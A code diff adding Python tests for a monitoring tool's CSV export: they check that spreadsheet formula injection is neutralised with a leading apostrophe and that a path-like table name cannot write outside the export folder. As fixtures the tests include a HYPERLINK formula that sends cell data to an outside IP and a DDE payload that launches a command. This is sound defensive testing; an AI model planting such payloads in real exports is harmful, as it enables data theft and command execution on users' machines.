@@ -24,6 +24,7 @@ from collectors.readings import (
     GpuInfo,
     LoadEvent,
     Note,
+    Phase,
     RequestEvent,
     RequestRecord,
     Step,
@@ -31,7 +32,7 @@ from collectors.readings import (
     Vantage,
 )
 from inferwatch.errors import UsageError
-from inferwatch.export.csv_tables import write_csv
+from inferwatch.export.csv_tables import harmless, write_csv
 from inferwatch.export.jsonl import write_jsonl
 from inferwatch.export.recording import Recording, opened
 from inferwatch.export.tables import What, tables
@@ -314,3 +315,93 @@ def test_tables_of_a_later_schema_are_exported_too_but_for_blobs(
     found = rows((tmp_path / "gpu.jsonl").read_bytes())
     assert found["gpu_later"] == [{"ordinal": 2, "hbm_bytes": 3}]
     assert {"gpus", "host_samples", "host_processes"} < found.keys()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://198.51.100.1/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "  =1+1",
+        "\ufeff=1+1",
+        "\u200b@SUM(1)",
+        "\x00=1+1",
+        "\uff1d1+1",
+        "\tx",
+        "'=1+1",
+    ],
+)
+def test_a_formula_is_a_text(text: str) -> None:
+    assert harmless(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["", "tiny", "-5", "+5", "-1.5e-3", "-.5", "a=b", "s1", "{-1}", "café"]
+)
+def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
+    assert harmless(text) == text
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@'\t ")))
+def test_one_apostrophe_less_is_what_was_recorded(text: str) -> None:
+    found = harmless(text)
+
+    assert found.removeprefix("'") == text
+    visible = found.lstrip()
+    assert visible[:1] not in {*"=@"}
+    assert visible[:1] not in {*"+-"} or float(visible) is not None
+
+
+def test_a_spreadsheet_finds_no_formula_and_numbers_stay(
+    keep_session: Callable[..., Recorded], tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://198.51.100.1")'
+    database, _ = keep_session(
+        [
+            RequestRecord(
+                source=evil,
+                index=1,
+                external_id=evil,
+                phase=Phase.STEADY,
+                intended_ns=5,
+                first_token_ns=-7,
+                last_token_ns=9,
+                detail="-not a number",
+            )
+        ]
+    )
+    out = tmp_path / "requests.csv"
+    with opened(database, "last") as recording:
+        (table, *_) = [
+            each
+            for each in tables(recording, What.CLIENT)
+            if each.name == "client_requests"
+        ]
+        write_csv([table], Target(path=out, force=True))
+
+    with out.open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["external_id"] == row["source"] == "'" + evil
+    assert row["detail"] == "'-not a number"
+    assert row["first_token_ns"] == "-7"
+    assert float(row["ttft_s"]) == pytest.approx(-1.2e-8)
+
+
+def test_a_table_with_a_path_for_a_name_is_no_file(
+    recorded: Recorded, tmp_path: Path
+) -> None:
+    database, _ = recorded
+    with closing(sqlite3.connect(database)) as connection, connection:
+        connection.execute('CREATE TABLE "../outside" (session INTEGER, text TEXT)')
+
+    with opened(database, "last") as recording:
+        found = tables(recording, What.ALL)
+        write_csv(found, Target(path=tmp_path / "folder"))
+
+    assert "../outside" not in {table.name for table in found}
+    assert not (tmp_path / "outside.csv").exists()
